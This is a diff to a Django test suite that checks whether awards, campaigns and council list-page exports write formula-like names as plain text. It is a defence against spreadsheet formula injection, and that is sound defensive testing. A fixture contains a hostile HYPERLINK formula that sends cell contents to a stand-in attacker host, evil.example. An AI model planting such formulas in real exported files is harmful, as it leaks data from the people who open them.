@@ -21,8 +21,9 @@ from django.urls import reverse
 from import_export.admin import ExportMixin
 from openpyxl import load_workbook
 
-from awards.models import Nomination, Person
+from awards.models import AwardRecord, AwardType, Nomination, Person
 from campaigns.models import Movement, ReviewPeriod
+from council.models import Decision
 from organisation.models import OrgUnit
 from songlo.spreadsheets import FORMULA_STARTS, SafeCSV, SafeXLSX, csv_text
 
@@ -36,7 +37,15 @@ WRITERS = re.compile(
     r"|content_type\s*=\s*\"application/vnd\.openxmlformats-officedocument\.spreadsheetml"
 )
 # The page exports, by the module that builds their response: each has a case in PAGE_EXPORTS.
-PAGE_EXPORT_CALLS = {"awards/views.py": 1, "awards/import_views.py": 1, "campaigns/views/reviews.py": 1}
+PAGE_EXPORT_CALLS = {
+    "awards/views.py": 1,
+    "awards/import_views.py": 1,
+    "campaigns/views/reviews.py": 1,
+    # The list pages' exports (list_xlsx_response): eligibility, people, award history; registrations; decisions.
+    "awards/exports.py": 3,
+    "campaigns/exports.py": 1,
+    "council/exports.py": 1,
+}
 
 HOSTILE = {
     "unit": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
@@ -102,6 +111,19 @@ def _page_exports(period) -> dict[str, str]:
         "campaigns:period_export": reverse("campaigns:period_export", args=[period.pk]),
         "awards:nomination_list?export=xlsx": reverse("awards:nomination_list") + "?export=xlsx",
         "awards:import_template": reverse("awards:import_template"),  # no data of anyone's: fixed labels
+        **_list_exports(period),
+    }
+
+
+def _list_exports(period) -> dict[str, str]:
+    unit = OrgUnit.objects.get(name=HOSTILE["unit"])
+    return {
+        "awards:eligibility": reverse("awards:eligibility") + f"?unit={unit.code}&show=all&export=xlsx",
+        "awards:people": reverse("awards:people") + "?export=xlsx",
+        "awards:unit_history": reverse("awards:unit_history", args=[unit.code]) + "?export=xlsx",
+        "campaigns:registration_status": reverse("campaigns:registration_status", args=[period.movement_id])
+        + "?export=xlsx",
+        "council:decision_list": reverse("council:decision_list") + "?export=xlsx",
     }
 
 
@@ -137,6 +159,26 @@ def test_demo_page_exports_write_formula_like_names_as_text(demo):
     # Numbers stay numbers: the row numbers and the years.
     assert {c.data_type for c in nomination_cells if c.column == 11 and c.row > 3} == {"n"}
     assert {c.data_type for c in period_cells if c.column == 1 and c.row > 3} == {"n"}
+
+
+def test_demo_list_exports_write_formula_like_names_as_text(demo):
+    period = _make_hostile()
+    unit = OrgUnit.objects.get(name=HOSTILE["unit"])
+    AwardRecord.objects.create(unit=unit, award_type=AwardType.objects.get(code="TTLDTT"), year=2020)
+    Decision.objects.filter(pk=Decision.objects.order_by("pk").values("pk")[:1]).update(summary=HOSTILE["reason"])
+    client = Client()
+    client.force_login(get_user_model().objects.get(username="vanphong"))
+    expected = {
+        "awards:eligibility": {HOSTILE["unit"]},
+        "awards:people": {HOSTILE["person"]},
+        "awards:unit_history": {HOSTILE["unit"]},
+        "campaigns:registration_status": {HOSTILE["unit"], HOSTILE["movement"]},
+        "council:decision_list": {HOSTILE["reason"]},
+    }
+    for name, url in _list_exports(period).items():
+        response = client.get(url)
+        assert response.status_code == 200, name
+        _assert_no_formula(_cells(b"".join(response.streaming_content)), expected[name])
 
 
 def _export_admins():
